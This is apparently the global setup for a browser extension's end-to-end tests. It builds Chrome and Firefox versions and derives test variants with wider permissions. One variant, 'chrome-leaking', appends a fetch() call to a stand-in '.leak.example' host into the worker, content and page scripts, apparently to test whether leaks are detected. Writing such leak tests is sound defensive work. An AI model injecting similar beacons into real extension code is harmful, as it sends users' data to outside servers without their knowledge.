import { spawnSync } from "node:child_process";
import {
  appendFileSync,
  cpSync,
  existsSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { join, resolve } from "node:path";
import { siteFacts } from "../../src/sites/facts.ts";
import { buildPages, pagesFolder, seedPath } from "../ui-preview/built-pages.ts";
import { derived, shipped } from "./build-folder.ts";

/**
 * `chrome`, `firefox`: what is shipped. `chrome-granted`: differs from `chrome` only in that access to all sites is given
 * at install, since nobody can click the browser's permission prompt in a test. `chrome-small`: that, and without
 * `unlimitedStorage`, since a quota can be set in a test only then. `chrome-leaking`: `chrome-granted`, and every script sends
 * a request to a server of nobody's, named after where it ran.
 */
export type BuildName = "chrome" | "firefox" | "chrome-granted" | "chrome-small" | "chrome-leaking";

/** Folder of a build. */
export function buildFolder(name: BuildName): string {
  return name === "chrome" || name === "firefox" ? join(shipped, name) : join(derived, name);
}

export interface Manifest {
  permissions: string[];
  host_permissions?: string[];
  [key: string]: unknown;
}

export function readManifest(name: BuildName): Manifest {
  return JSON.parse(readFileSync(join(buildFolder(name), "manifest.json"), "utf8")) as Manifest;
}

function newestIn(path: string): number {
  if (!statSync(path).isDirectory()) return statSync(path).mtimeMs;
  return Math.max(0, ...readdirSync(path).map((name) => newestIn(join(path, name))));
}

const inputs = ["src", "public", "manifest.json", "vite.config.ts", "scripts/page-scripts.mjs", "package-lock.json"];

function isCurrent(built: string, of: readonly string[]): boolean {
  return existsSync(built) && statSync(built).mtimeMs > Math.max(...of.map(newestIn));
}

function build(target: "chrome" | "firefox"): void {
  if (isCurrent(join(shipped, target, "manifest.json"), inputs)) return;
  const vite = resolve("node_modules/vite/bin/vite.js");
  const args = ["build", "--mode", target, "--outDir", join(shipped, target), "--emptyOutDir", "--logLevel", "warn"];
  const { status } = spawnSync(process.execPath, [vite, ...args], { stdio: "inherit" });
  if (status !== 0) throw new Error(`the ${target} build failed`);
}

function derive(name: BuildName, change: (manifest: Manifest) => Manifest): void {
  const folder = buildFolder(name);
  rmSync(folder, { recursive: true, force: true });
  cpSync(buildFolder("chrome"), folder, { recursive: true });
  writeFileSync(join(folder, "manifest.json"), JSON.stringify(change(readManifest("chrome")), null, 2));
}

/** The address of which says where: of tunnels nothing is seen but the host. */
const leaking = `fetch("https://" + (self.location.pathname.split("/").at(-2) || "worker") + ".leak.example/").catch(() => {})`;

/** Lets the worker, the offscreen document, the pages and what goes into web pages send something. */
function leak(): void {
  const folder = buildFolder("chrome-leaking");
  const pages = ["offscreen", "library", "popup"].map((name) => join(folder, `src/${name}/index.html`));
  const entries = pages.map(
    (page) => /<script type="module"[^>]* src="\/([^"]+)"/.exec(readFileSync(page, "utf8"))?.[1],
  );
  for (const path of ["service-worker-loader.js", "content.js", ...entries]) {
    if (path === undefined) throw new Error("a page of the build has no script");
    appendFileSync(join(folder, path), `\n${leaking};\n`);
  }
}

/** Every site that is known, and this machine for front ends that people host themselves. */
const granted = [...siteFacts.flatMap(({ origins }) => origins), "http://127.0.0.1/*", "http://localhost/*"];

/** Builds what is out of date; runs once before all tests. */
export default async function buildAll(): Promise<void> {
  if (!isCurrent(join(pagesFolder, seedPath), [...inputs, "e2e/ui-preview"])) await buildPages();
  build("chrome");
  build("firefox");
  derive("chrome-granted", (manifest) => ({ ...manifest, host_permissions: granted }));
  derive("chrome-leaking", (manifest) => ({ ...manifest, host_permissions: granted }));
  leak();
  derive("chrome-small", (manifest) => ({
    ...manifest,
    host_permissions: granted,
    permissions: manifest.permissions.filter((name) => name !== "unlimitedStorage"),
  }));
}
